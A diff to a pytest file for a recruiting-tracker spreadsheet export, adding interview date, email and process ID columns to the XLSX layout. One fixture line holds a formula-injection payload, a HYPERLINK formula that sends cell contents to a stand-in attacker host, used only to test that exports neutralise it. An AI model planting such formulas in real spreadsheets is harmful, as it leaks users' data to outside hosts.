@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+from dataclasses import replace
+from datetime import datetime
 
 import pytest
 from openpyxl import load_workbook
@@ -14,6 +16,14 @@ from store.export import TrackerRow, columns, render
 
 FIXED = ["Candidate", "Client", "Company", "Role", "Recruiter", "Status", "Next step"]
 HEADER = [*FIXED, "Last contact", "Interview #1", "Interview #2", "Interview #3"]
+XLSX_HEADER = [
+    *FIXED,
+    "Last contact",
+    *(name for n in (1, 2, 3) for name in (f"Interview #{n}", f"Interview #{n} date")),
+    "Candidate email",
+    "Client email",
+    "Process ID",
+]
 EVIL = '=HYPERLINK("http://evil.example/?s="&A1&B1,"Click")'
 
 
@@ -81,10 +91,10 @@ def test_xlsx_layout_and_escaping() -> None:
     """XLSX has a bold frozen header, one column per round, capped widths and inert formulas."""
     sheet = load_workbook(io.BytesIO(render(ROWS, "xlsx"))).active
     values = [[cell.value for cell in cells] for cells in sheet.iter_rows()]
-    assert values[0] == HEADER
+    assert values[0] == XLSX_HEADER
     assert sheet.freeze_panes == "A2"
     assert all(cell.font.bold for cell in sheet[1])
-    assert values[1][8:10] == list(ROWS[0].rounds)
+    assert values[1][8:12:2] == list(ROWS[0].rounds)
     evil = sheet["A4"]
     assert (evil.value, evil.data_type) == ("'" + EVIL, "s")
     widths = {letter: sheet.column_dimensions[letter].width for letter in "ABDI"}
@@ -127,3 +137,26 @@ def test_unknown_format_is_refused() -> None:
     """An unknown format name is an input error, not a silent default."""
     with pytest.raises(InputError):
         render(ROWS, "pdf")  # type: ignore[arg-type]
+
+
+def test_xlsx_has_real_dates_beside_each_round_and_the_ids() -> None:
+    """Each Interview #N column has a datetime column beside it that sorts as a date; the
+    candidate's and client's addresses and the process id follow."""
+    booked = replace(
+        row("Ana Lima", "2026-12-03 10:00 EST · confirmed", ""),
+        starts=(datetime.fromisoformat("2026-12-03 10:00"), None),
+        candidate_email="ana@example.com",
+        client_emails="dana@acme.example",
+        process_id="ab12cd34",
+    )
+    sheet = load_workbook(io.BytesIO(render([booked], "xlsx"))).active
+    values = [[cell.value for cell in cells] for cells in sheet.iter_rows()]
+    header = dict(zip(values[0], values[1], strict=True))
+    assert header["Interview #1 date"] == datetime.fromisoformat("2026-12-03 10:00")
+    assert sheet["J2"].is_date and sheet["J2"].number_format == "yyyy-mm-dd hh:mm"
+    assert header["Interview #2 date"] is None
+    assert (header["Candidate email"], header["Client email"], header["Process ID"]) == (
+        "ana@example.com",
+        "dana@acme.example",
+        "ab12cd34",
+    )
